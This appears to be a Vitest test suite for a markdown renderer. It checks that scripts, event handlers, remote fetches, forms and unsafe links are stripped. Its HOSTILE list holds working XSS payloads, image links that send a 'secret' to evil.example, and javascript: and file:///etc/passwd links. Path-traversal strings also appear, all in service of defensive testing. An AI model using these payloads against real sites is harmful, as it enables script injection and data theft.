import { describe, expect, it } from 'vitest';
import { english } from '../../src/host';
import { renderMarkdown } from '../../src/markdown/render';

function rendered(markdown: string): HTMLElement {
  const box = document.createElement('div');
  box.append(renderMarkdown(markdown, english));
  return box;
}

/** Every attribute of every element, as `TAG attribute=value`. */
function attributes(box: HTMLElement): string[] {
  return [...box.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => `${e.tagName} ${a.name}=${a.value}`));
}

// the last line of each would fetch, run, submit or cover something
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/?q=secret)',
  '![x](//evil.example/x.png)',
  '![x](/files/secret.png)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '<img srcset="https://evil.example/a 2x" src="data:image/png;base64,AA==">',
  '<picture><source srcset="https://evil.example/a"><img></picture>',
  '<svg><image href="https://evil.example/x"/><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<video src="https://evil.example/v" poster="https://evil.example/p"></video>',
  '<audio src="https://evil.example/a"></audio>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
  '<form action="https://evil.example"><input name=a><button>Send</button></form>',
  '<input type=image src="https://evil.example/x">',
  '<button data-copy="code" class="dsp-send">Allow</button>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:x) [y](file:///etc/passwd) [z](blob:x) [w](//evil.example)',
  '<a href="https://ok.example" ping="https://evil.example" onclick="alert(1)" target=_top rel=opener>x</a>',
  '<div id=jupyter-config-data class="dsp-send jp-Dialog" name=x data-lm-suppress-shortcuts=false>x</div>',
  '<code class="language-js dsp-send">x</code>',
  '<details ontoggle=alert(1) open><summary>x</summary>y</details>'
];

describe.each(HOSTILE)('hostile: %s', markdown => {
  const box = rendered(markdown);

  it('leaves nothing that runs, fetches or submits', () => {
    const bad =
      'script,style,link,meta,base,iframe,object,embed,form,input,textarea,select,svg,math,video,audio,source,picture';
    expect(box.querySelector(bad)).toBeNull();
    expect(box.querySelectorAll('button:not(.dsp-code-bar button)')).toHaveLength(0);
    for (const attribute of attributes(box)) {
      expect(attribute).not.toMatch(/ (on\w+|style|srcset|background|poster|ping|id|name|data-(?!path|copy))/i);
      if (/ src=/.test(attribute)) expect(attribute).toMatch(/^IMG src=data:image\/(png|jpeg|gif|webp);base64,/);
      if (/ href=/.test(attribute)) expect(attribute).toMatch(/^A href=(https?:|mailto:)/);
      if (/ class=/.test(attribute)) expect(attribute).not.toMatch(/jp-|dsp-send/);
    }
  });
});

describe('links', () => {
  it('open outside without handing over this page', () => {
    const link = rendered('[x](https://docs.example/a?b#c)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://docs.example/a?b#c');
    expect(link?.rel).toBe('noopener noreferrer');
    expect(link?.target).toBe('_blank');
  });

  it.each([
    ['src/dates.py', 'src/dates.py'],
    ['./README.md', 'README.md'],
    ['my%20notes.md', 'my notes.md']
  ])('to a file of the project, %s, are for the host to open', (href, path) => {
    const link = rendered(`[x](${href})`).querySelector('a');
    expect(link?.hasAttribute('href')).toBe(false);
    expect(link?.dataset.path).toBe(path);
  });

  it.each([
    '/etc/passwd',
    '../secret',
    'a/../../b',
    '%2e%2e/b',
    '#top',
    'lab?reset',
    '..\\x',
    '%2Fetc/passwd',
    'a%0A/../../b',
    'a%E2%80%AEgpj.py'
  ])('elsewhere, %s, lead nowhere', href => {
    const link = rendered(`[x](<${href}>)`).querySelector('a');
    expect(link?.hasAttribute('href')).toBe(false);
    expect(link?.dataset.path).toBeUndefined();
  });
});

describe('what should survive', () => {
  it('shows pictures that are in the answer itself', () => {
    expect(rendered('![dot](data:image/png;base64,AAAA)').querySelector('img')?.alt).toBe('dot');
  });

  it('says that there was a picture', () => {
    expect(rendered('a ![the plot](https://x.example/p.png) b').textContent?.trim()).toBe('a [the plot] b');
  });

  it('handles several pictures and links in a row', () => {
    const box = rendered('![a](https://x.example/1) ![b](https://x.example/2) [c](https://x.example/3)');
    expect(box.textContent?.trim()).toBe('[a] [b] c');
    expect(box.querySelectorAll('img')).toHaveLength(0);
  });

  it('colours code and offers to copy it', () => {
    const box = rendered('```python\ndef f(): return "<b>"\n```');
    expect(box.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(box.querySelector('pre')?.textContent).toBe('def f(): return "<b>"\n');
    expect(box.querySelector('button')?.dataset.copy).toBe('code');
    expect(box.querySelector('.dsp-code-bar span')?.textContent).toBe('python');
  });

  it('leaves code of unknown languages alone', () => {
    expect(rendered('```klingon\nnuqneH <x>\n```').querySelector('code')?.innerHTML).toBe('nuqneH &lt;x&gt;\n');
  });

  it('draws tables, lists, tasks and folded parts', () => {
    const box = rendered(
      '| a | b |\n|--:|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] not\n\n<details><summary>s</summary>t</details>'
    );
    expect(box.querySelectorAll('td')).toHaveLength(2);
    expect(box.textContent).toContain('☑ done');
    expect(box.querySelector('summary')?.textContent).toBe('s');
  });
});
